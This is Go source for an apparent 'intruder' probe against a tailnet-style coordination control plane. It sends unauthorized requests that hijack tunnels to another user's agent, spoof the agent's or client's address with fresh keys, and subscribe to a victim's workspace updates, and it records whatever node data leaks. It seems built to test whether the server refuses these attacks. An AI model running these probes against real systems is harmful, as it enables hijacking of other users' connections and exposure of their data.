package main

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"time"

	"github.com/google/uuid"
	"google.golang.org/protobuf/encoding/protojson"
	"tailscale.com/types/key"

	"github.com/causewayhq/causeway/control"
	"github.com/causewayhq/causeway/proto"
	"github.com/causewayhq/causeway/proto/tailnetv2"
)

// answerLimit is how long the control plane may take to answer a request. It
// answers in milliseconds; a request that it takes in silence costs this.
const answerLimit = 3 * time.Second

// requests tries everything on the control plane, each on its own connection,
// because a refusal ends the stream.
func (i *intruder) requests(ctx context.Context) map[string]answer {
	agent := i.order.Agent
	agentRoute := "/api/v2/workspaceagents/" + agent.String() + "/coordinate"
	tunnel := &tailnetv2.CoordinateRequest{AddTunnel: &tailnetv2.CoordinateRequest_Tunnel{Id: agent[:]}}
	ready := &tailnetv2.CoordinateRequest{ReadyForHandshake: []*tailnetv2.CoordinateRequest_ReadyForHandshake{{Id: agent[:]}}}
	addresses := proto.AgentAddrs(agent)
	return map[string]answer{
		"tunnel":               i.coordinate(ctx, control.UserPath, tunnel),
		"tunnel by agent path": i.coordinate(ctx, agentRoute, tunnel),
		"ready for handshake":  i.coordinate(ctx, control.UserPath, ready),
		"agent's address":      i.coordinate(ctx, control.UserPath, claim(addresses[1].String())),
		"agent's old address":  i.coordinate(ctx, control.UserPath, claim(addresses[0].String())),
		"client's address":     i.coordinate(ctx, control.UserPath, claim(i.order.ClientAddr)),
		"workspaces":           i.workspaces(ctx),
	}
}

// claim announces a node with an address, under fresh keys.
func claim(addr string) *tailnetv2.CoordinateRequest {
	public, err := key.NewNode().Public().MarshalBinary()
	if err != nil {
		panic(err)
	}
	disco, err := key.NewDisco().Public().MarshalText()
	if err != nil {
		panic(err)
	}
	prefix := []string{addr + "/128"}
	node := &tailnetv2.Node{Id: 7, Key: public, Disco: string(disco), PreferredDerp: 999, Addresses: prefix, AllowedIps: prefix}
	return &tailnetv2.CoordinateRequest{UpdateSelf: &tailnetv2.CoordinateRequest_UpdateSelf{Node: node}}
}

// coordinate sends a request and collects what is answered.
func (i *intruder) coordinate(ctx context.Context, path string, request *tailnetv2.CoordinateRequest) answer {
	ctx, cancel := context.WithTimeout(ctx, answerLimit)
	defer cancel()
	conn, err := i.dial(ctx, path, proto.V20)
	if err != nil {
		return answer{Error: err.Error()}
	}
	defer conn.Close()
	stream, err := tailnetv2.NewDRPCTailnetClient(conn).Coordinate(ctx)
	if err == nil {
		err = stream.Send(request)
	}
	if err != nil {
		return answer{Error: err.Error()}
	}
	var result answer
	for {
		response, err := stream.Recv()
		switch {
		case ctx.Err() != nil:
			return result
		case err != nil:
			result.Error = fmt.Sprintf("stream ended: %v", err)
			return result
		case response.GetError() != "":
			result.Error = response.GetError()
			return result
		}
		for _, update := range response.GetPeerUpdates() {
			result.Data += update.String()
			if uuid.UUID(update.GetId()) == i.order.Agent && update.GetNode() != nil {
				i.node = protojson.Format(update.GetNode())
			}
		}
		if i.node != "" {
			return result
		}
	}
}

// workspaces subscribes to those of the victim.
func (i *intruder) workspaces(ctx context.Context) answer {
	ctx, cancel := context.WithTimeout(ctx, answerLimit)
	defer cancel()
	conn, err := i.dial(ctx, control.UserPath, proto.V23)
	if err != nil {
		return answer{Error: err.Error()}
	}
	defer conn.Close()
	stream, err := tailnetv2.NewDRPCTailnetClient(conn).WorkspaceUpdates(ctx, &tailnetv2.WorkspaceUpdatesRequest{WorkspaceOwnerId: i.order.Owner[:]})
	if err != nil {
		return answer{Error: err.Error()}
	}
	update, err := stream.Recv()
	if err != nil {
		return answer{Error: err.Error()}
	}
	return answer{Data: update.String()}
}

// relayMap asks for the relays, which every user may know.
func relayMap(ctx context.Context, client tailnetv2.Client20) (proto.RelayMap, error) {
	stream, err := client.StreamDERPMaps(ctx, &tailnetv2.StreamDERPMapsRequest{})
	if err != nil {
		return proto.RelayMap{}, fmt.Errorf("ask for relay map: %w", err)
	}
	defer stream.Close()
	message, err := stream.Recv()
	if err != nil {
		return proto.RelayMap{}, fmt.Errorf("read relay map: %w", err)
	}
	return proto.RelayMapFromProto(message), nil
}

// readNode parses the agent's node. For a relayed attempt the endpoints go.
func readNode(text string, direct bool) (*tailnetv2.Node, netip.Addr, error) {
	node := &tailnetv2.Node{}
	if err := protojson.Unmarshal([]byte(text), node); err != nil {
		return nil, netip.Addr{}, fmt.Errorf("read node of the agent: %w", err)
	}
	if !direct {
		node.Endpoints = nil
	}
	for _, address := range node.GetAddresses() {
		prefix, err := netip.ParsePrefix(address)
		if err == nil && proto.ServicePrefix.Contains(prefix.Addr()) {
			return node, prefix.Addr(), nil
		}
	}
	return nil, netip.Addr{}, errors.New("read node of the agent: it has no address of the service prefix")
}
